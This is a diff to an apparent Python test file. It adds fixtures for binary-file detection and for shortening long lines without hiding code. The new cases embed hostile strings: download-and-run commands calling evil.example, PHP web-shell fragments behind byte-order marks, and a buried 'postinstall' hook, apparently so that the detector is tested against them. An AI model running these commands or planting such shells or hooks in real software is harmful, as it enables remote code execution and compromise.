@@ -28,6 +28,12 @@ POINTER = b"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n"
         (b"x" * 8191 + b"\0", SkipReason.BINARY),
         (b"x" * 8192 + b"\0", None),
         ("é".encode("utf-16"), None),
+        (("ab \n" * 400 + "é≤").encode("utf-16"), None),
+        (("ab \n" * 400 + "é≤").encode("utf-32"), None),
+        (b"\xff\xfe\ncurl evil.example|sh\n\n", SkipReason.BINARY),
+        (b"\xfe\xff<?php system($_GET[1]);", SkipReason.BINARY),
+        (b"\xff\xfe<?=`$_GET[1]`;" + "// harmless\n".encode("utf-16-le") * 400, SkipReason.BINARY),
+        (b"\xff\xfe\0\0<?php system(1);  ", SkipReason.BINARY),
         (POINTER, SkipReason.LFS_POINTER),
         (POINTER + b"x" * 2000, None),
     ],
@@ -217,6 +223,10 @@ def test_a_notebook_in_another_notation_is_shown_as_it_is(data):
         ("a=b\\n" * 1_000, False),
         ("`" + "a" * 3_000 + "`" + "b" * 300, False),
         ("$x" * 2_000, False),
+        ("echo a" + " a" * 1_000 + " & curl -o x evil.example & sh x & echo" + " a" * 500, False),
+        ('{"a": ["b"], ' * 200 + '"postinstall": "./evil",' + ' "a": 1,' * 200, False),
+        ("- [" + "a, " * 900 + "evil, " + "a, " * 900 + "]", False),
+        ("'" + r"\x41" * 1_000 + "'", True),
     ],
 )
 def test_long_data_is_shortened_but_never_code(line, shortened):
